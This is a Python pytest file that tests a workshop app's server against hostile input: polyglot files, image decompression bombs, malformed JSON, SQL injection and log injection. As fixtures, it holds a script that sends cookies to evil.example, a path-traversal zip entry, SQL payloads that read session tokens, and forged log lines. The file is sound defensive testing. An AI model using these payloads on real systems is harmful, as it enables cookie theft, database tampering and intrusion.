"""
What somebody sends who means harm: bombs, files that are two things at once, nonsense in JSON,
words that would be read as more than words. Each is refused or kept as the bytes it is, in little
time and memory, and the server goes on.
"""

import base64
import hashlib
import io
import logging
import os
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from workshop import NOON, as_text, clients, opening, private_value, uuid7

pytestmark = pytest.mark.slow(6)

SENT_AT = as_text(NOON)
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
MOST_MIB = 200  # what one request may add to the process, at its peak


@pytest.fixture
def phone(workshop):
    return workshop.enrol("mechanic")


@pytest.fixture
def client(workshop, phone):
    return clients(workshop)(phone)


def picture(kind: str, size: tuple[int, int], mode: str = "L", **how) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **how)
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as whole:
        whole.writestr("../../evil.txt", "x")
    return out.getvalue()


def keep(workshop, phone, data: bytes) -> str:
    """Have a photo in the workshop that a job of this phone names."""
    sha256 = workshop.store.blobs.put(data)
    workshop.store.ledger.keep([sha256], NOON)
    values = [private_value("vin", "TT 1"), private_value("plate", "W 1")]
    job = uuid7()
    workshop.push(phone.write("job.opened", opening(*values), job), blobs=tuple(values))
    said = {"step": "belt_off", "name": "belt", "blob": sha256, "size": len(data)}
    seen = {"type": "image/jpeg", "width": 0, "height": 0, "how": "picked"}
    workshop.push(phone.write("photo.taken", {**said, **seen}, job))
    return sha256


POLYGLOTS = {
    "a GIF that is a script": b"GIF89a/*" + bytes(8) + b"*/=1;" + SCRIPT,
    "a picture with a zip behind it": picture("JPEG", (40, 30)) + zipped(),
    "a PDF with a picture in it": b"%PDF-1.7\n" + picture("JPEG", (40, 30)) + SCRIPT,
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a page": b"<!doctype html>" + SCRIPT,
    "a service worker": b"self.addEventListener('fetch', e => e.respondWith(new Response('')))",
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_a_file_that_is_two_things_is_never_shown_as_either(workshop, phone, client, what):
    data = POLYGLOTS[what]
    sha256 = keep(workshop, phone, data)
    for asked_as in ({}, {"Service-Worker": "script"}, {"Accept": "text/html"}):
        answer = client.get(f"/api/blobs/{sha256}", **asked_as)
        assert answer.data == data
        assert answer.mimetype == "application/octet-stream"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["Content-Security-Policy"].startswith("sandbox;")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    copy = client.get(f"/api/blobs/{sha256}?width=60")
    assert copy.status_code in (200, 415)
    if copy.status_code == 200:
        assert copy.mimetype == "image/jpeg"
        assert SCRIPT not in copy.data
        assert b"PK\x03\x04" not in copy.data


def peak_mib(act) -> int:
    """Return by how much the peak of memory grew in a child that did it."""
    ours, childs = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            # A child begins with its parent's peak: 5 sets it back to what it has now.
            Path("/proc/self/clear_refs").write_text("5")
            before = high_water_mib()
            act()
            os.write(childs, str(high_water_mib() - before).encode())
        finally:
            os._exit(0)
    os.close(childs)
    with os.fdopen(ours) as pipe:
        said = pipe.read()
    os.waitpid(child, 0)
    assert said, "the child came to nothing"
    return int(said)


def high_water_mib() -> int:
    with Path("/proc/self/status").open() as file:
        (line,) = (line for line in file if line.startswith("VmHWM"))
    return int(line.split()[1]) // 1024


BOMBS = {
    "PNG, 169 megapixels": lambda: picture("PNG", (13_000, 13_000)),
    "PNG, 49 megapixels": lambda: picture("PNG", (7_000, 7_000), "RGBA", compress_level=1),
    "PNG, 12 megapixels": lambda: picture("PNG", (3_500, 3_500), "RGBA", compress_level=1),
    "WebP, 12 megapixels": lambda: picture("WEBP", (3_500, 3_500), "RGB", method=0),
    "JPEG, 49 megapixels": lambda: picture("JPEG", (7_000, 7_000), "RGB"),
    "JPEG, progressive": lambda: picture("JPEG", (7_000, 7_000), "RGB", progressive=True),
}


@pytest.mark.parametrize("what", BOMBS)
def test_a_picture_that_unpacks_to_a_mountain_takes_little_memory(workshop, phone, client, what):
    sha256 = keep(workshop, phone, BOMBS[what]())
    answers = []

    def look():
        answers.append(client.get(f"/api/blobs/{sha256}?width=300").status_code)
        assert answers[-1] in (200, 415)

    assert peak_mib(look) <= MOST_MIB


DEEP = b'{"sent_at":"' + SENT_AT.encode() + b'","lines":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
NONSENSE = {
    "two of one name": b'{"device":"%s","device":"%s"}' % (b"A" * 43, b"B" * 43),
    "infinity": b'{"device":Infinity}',
    "a number without end": b'{"device":' + b"9" * 100_000 + b"}",
    "a lone surrogate": b'{"device":"\\ud800"}',
    "a null byte": b'{"device":"' + b"\\u0000" * 43 + b'"}',
    "another encoding": '{"device":"é"}'.encode("utf-16"),
    "a prototype": b'{"__proto__":{"role":"owner"},"constructor":1}',
}


@pytest.mark.parametrize("what", NONSENSE)
def test_nonsense_in_json_is_refused_at_the_door(workshop, what):
    answer = clients(workshop)().tus(
        "POST", "/api/session/nonce", NONSENSE[what], Content_Type="application/json"
    )
    assert answer.status_code in (400, 401, 422)
    assert answer.json.keys() >= {"code", "message", "hint"}
    assert workshop.store.database.rows("select * from nonces") == []


def test_a_body_as_deep_as_it_is_long_is_refused(client):
    answer = client.tus("POST", "/api/entries", DEEP, Content_Type="application/json")
    assert answer.status_code in (400, 422)


HOSTILE = [
    "'; drop table records; --",
    '" or 1=1 --',
    "%' union select token_sha256 from sessions --",
    "\x00",
    "*",
    "a" * 64,
]


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("key", ["vin", "plate", "lot", "tool"])
def test_what_is_sought_is_words_and_no_statement(workshop, words, key):
    owner = clients(workshop)(workshop.enrol("owner"))
    size = workshop.store.ledger.size()
    answer = owner.post("/api/find", {key: words})
    assert answer.status_code in (200, 400, 422)
    if answer.status_code == 200:
        assert answer.json["jobs"] == []
    assert workshop.store.ledger.size() == size


def test_a_name_with_line_ends_is_one_line_of_the_log(workshop, client, monkeypatch, caplog):
    """OWASP ASVS 5.0.0, 16.4.1: nobody writes lines of their own into the log."""

    def broken(*_, **__):
        raise OSError("the disk is gone")

    monkeypatch.setattr(type(workshop.store.views), "kept_at", broken)
    forged = "x%0d%0aERROR%20the%20workshop%20was%20sold%1b[2J"
    with caplog.at_level(logging.INFO):
        answer = client.get(f"/api/blobs/{'a' * 64}/receipt?{forged}", **{"X-Name": "a\tb"})
        client.get(f"/{forged}")
        client.get(f"/assets/{forged}")
    assert answer.status_code == 500
    assert "sold" not in answer.text
    assert caplog.records
    for one in caplog.records:
        assert not set("\r\n\x1b") & set(one.getMessage())


def test_a_value_that_a_photo_s_hash_names_but_whose_bytes_differ_is_not_taken(client, phone):
    data = b"\xff\xd8 other bytes"
    sha256 = hashlib.sha256(b"what was promised").hexdigest()
    said = f"sha256 {base64.b64encode(sha256.encode()).decode()}"
    client.tus("POST", "/api/uploads", Upload_Length=str(len(data)), Upload_Metadata=said)
    kind = {"Content_Type": "application/offset+octet-stream", "Upload_Offset": "0"}
    answer = client.tus("PATCH", f"/api/uploads/{sha256}", data, **kind)
    assert (answer.status_code, answer.json["code"]) == (460, "wrong-hash")
    assert client.get(f"/api/blobs/{sha256}/receipt").status_code == 404
